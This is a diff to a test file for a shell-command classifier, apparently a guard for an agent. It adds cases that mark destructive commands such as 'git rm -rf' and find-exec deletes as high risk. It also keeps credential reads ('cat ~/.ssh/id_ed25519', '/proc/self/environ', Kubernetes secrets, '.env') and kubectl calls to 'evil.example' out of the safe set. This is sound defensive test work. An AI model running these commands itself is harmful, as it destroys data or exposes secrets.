@@ -10,6 +10,9 @@ const summary = (command: string) => {
 describe("a destructive command", () => {
   test.each([
     ["rm -rf x", "high fs-delete"],
+    ["git rm -rf x", "high git-discard"],
+    ["git restore --staged --worktree .", "high git-discard"],
+    ["find . -exec sh -c 'rm \"$0\"' {} \\;", "high fs-delete"],
     ["rm -fr x", "high fs-delete"],
     ["rm -r -f x", "high fs-delete"],
     ["rm x -rf", "high fs-delete"],
@@ -242,6 +245,17 @@ describe("an unknown command", () => {
     "kubectl get pods --server=https://evil.example",
     "kubectl get pods -s https://evil.example",
     "kubectl get pods -As=https://evil.example",
+    "kubectl get --filename=https://evil.example/x",
+    "kubectl get --raw /api/v1/secrets",
+    "kubectl get pods --insecure-skip-tls-verify",
+    "kubectl get secrets -o yaml",
+    "kubectl get pods,Secret/db",
+    "kubectl describe secret db",
+    "rg -z x",
+    "rg --search-zip x",
+    "git log --show-signature",
+    "ps -axE",
+    "echo %API_KEY%",
     "printf -v x y",
     "printf %d a[x]",
     "sort *",
@@ -251,6 +265,24 @@ describe("an unknown command", () => {
     "tree {-o,f}",
     "file {-C,-m,f}",
   ])("is a reading program with the flag of %j", (command) => expect(summary(command)).toBe("unknown unknown "));
+});
+
+describe("a file that holds little but secrets is not read without a question", () => {
+  test.each([
+    "cat .env",
+    "cat app/.env.local",
+    "cat ~/.ssh/id_ed25519",
+    "cat server.pem",
+    "cat ~/.aws/credentials",
+    "cat /proc/self/environ",
+    "head -n 5 .env",
+    "grep KEY .env",
+    "rg . /proc/1/environ",
+    "git show HEAD:.env",
+  ])("%s", (command) => expect(summary(command)).toBe("unknown unknown "));
+
+  test.each(["cat .env.example", "grep -rn process.env src", "ls -la .env", "cat environ", "cat id_rsa.pub"])("%s is safe", (command) =>
+    expect(classifyCommand(command).label).toBe("safe"));
 });
 
 describe("an expansion that can run a command standing in a value is never safe", () => {
